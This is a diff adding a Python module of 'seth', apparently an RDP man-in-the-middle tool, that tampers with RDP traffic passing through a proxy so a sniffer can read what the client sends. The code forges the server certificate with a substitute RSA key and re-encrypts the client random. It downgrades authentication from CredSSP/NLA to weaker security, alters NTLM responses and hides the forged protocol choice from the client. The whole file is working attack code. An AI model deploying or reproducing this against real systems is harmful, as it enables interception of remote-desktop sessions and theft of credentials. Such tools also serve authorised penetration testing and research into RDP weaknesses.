@@ -0,0 +1,139 @@
+"""
+Changing PDUs on their way through the proxy, so that the sniffer can read
+what the client sends
+"""
+
+import re
+from binascii import hexlify, unhexlify
+
+from seth import metrics, output
+from seth.crypto import key_pool, rsa_encrypt, sign_certificate
+from seth.framing import PHASE_CHECKS, scan_pdu
+from seth.recording import dump_data
+
+CREDSSP_DOWNGRADE = unhexlify(b"300da003020104a4060204c000005e")
+
+# Forged proprietary certificates by original certificate
+cert_cache = {}
+
+
+def tamper_data(session, bytes, From="Client", hits=None):
+    if hits is None:
+        hits = scan_pdu(bytes, From=From, checks=PHASE_CHECKS[session.phase])
+    if hits and isinstance(bytes, memoryview):
+        bytes = bytes.tobytes()
+    result = bytes
+
+    crypto = session.crypto
+    if ("client_random" in hits and "client_rand" in crypto
+            and not crypto["client_rand"] == b""):
+        result = reencrypt_client_random(session, bytes)
+
+    if "server_cert" in hits:
+        result = replace_server_cert(session, bytes)
+
+    if "mcdn" in hits:
+        result = set_fake_requested_protocol(session, bytes, hits["mcdn"])
+
+
+    if session.nt_response is not None and "ntlm_auth" in hits:
+        if (session.rdp_protocol > 2
+                and bytes.find(session.nt_response, hits["ntlm_auth"]) >= 0):
+            result = tamper_nt_response(session, bytes)
+
+    if "credssp_response" in hits and session.server_challenge is not None:
+        output.log("Downgrading CredSSP")
+        result = CREDSSP_DOWNGRADE
+
+
+    if result is not bytes:
+        dump_data(session, result, From=From, Modified=True)
+
+    return result
+
+
+def reencrypt_client_random(session, bytes):
+    """Replace the original encrypted client random (encrypted with OUR
+    public key) with the client random encrypted with the original public
+    key"""
+
+    crypto = session.crypto
+    reenc_client_rand = rsa_encrypt(crypto["client_rand"],
+                                    crypto["pubkey"]) + b"\x00"*8
+    result = bytes.replace(crypto["enc_client_rand"],
+                           reenc_client_rand)
+    return result
+
+
+def replace_server_cert(session, bytes):
+    crypto = session.crypto
+    # The same target always sends the same certificate, so forge it only
+    # once. The signature is part of the key, an entry means it was valid.
+    cache_key = (crypto["first5fields"], crypto["pubkey_blob"],
+                 crypto["sign"])
+    old_modulus = crypto["modulus"]
+    if metrics.stats is not None:
+        metrics.stats.count("forged certificates cached"
+                            if cache_key in cert_cache
+                            else "forged certificates")
+    if cache_key in cert_cache:
+        new_pubkey_blob, new_sig, crypto["mykey"] = cert_cache[cache_key]
+    else:
+        old_sig = sign_certificate(crypto["first5fields"] +
+                                   crypto["pubkey_blob"], len(crypto["sign"]))
+        assert old_sig == crypto["sign"]
+        key_len = len(crypto["modulus"])-8
+        crypto["mykey"] = key_pool.get(key_len*8)
+        new_modulus = crypto["mykey"].n.to_bytes(key_len + 8, "little")
+        new_pubkey_blob = crypto["pubkey_blob"].replace(old_modulus,
+                                                        new_modulus)
+        new_sig = sign_certificate(crypto["first5fields"] + new_pubkey_blob,
+                                   len(crypto["sign"]))
+        cert_cache[cache_key] = (new_pubkey_blob, new_sig, crypto["mykey"])
+
+    new_modulus = new_pubkey_blob[20:20+len(old_modulus)]
+    result = bytes.replace(old_modulus, new_modulus)
+    result = result.replace(crypto["sign"], new_sig)
+
+    return result
+
+
+def tamper_nt_response(session, data):
+    """The connection is sometimes terminated if NTLM is successful, this prevents that"""
+    output.log("Tamper with NTLM response")
+    nt_response = session.nt_response
+    fake_response = bytes([(nt_response[0] + 1 ) % 0xFF]) + nt_response[1:]
+    return data.replace(nt_response, fake_response)
+
+
+def set_fake_requested_protocol(session, data, offset):
+    output.log("Hiding forged protocol request from client")
+    result = (data[:offset+6] + bytes([session.rdp_protocol_old]) +
+              data[offset+7:])
+    return result
+
+
+def downgrade_auth(session, bytes, downgrade):
+    """Offer the target no better authentication protocol than downgrade,
+    see -g"""
+    regex = b".*..00..00.{8}$"
+    m = re.match(regex, hexlify(bytes))
+    session.rdp_protocol = session.rdp_protocol_old = bytes[-4]
+    # Flags:
+    # 0: standard rdp security
+    # 1: TLS instead
+    # 2: CredSSP (NTLMv2 or Kerberos)
+    # 8: Early User Authorization
+    if m and session.rdp_protocol > downgrade:
+        output.log("Downgrading authentication options from %d to %d" %
+                   (session.rdp_protocol, downgrade))
+        session.rdp_protocol = downgrade
+        result = (
+            bytes[:-7] +
+            b"\x00\x08\x00" +
+            chr(session.rdp_protocol).encode() +
+            b"\x00\x00\x00"
+        )
+        dump_data(session, result, From="Client", Modified=True)
+        return result
+    return bytes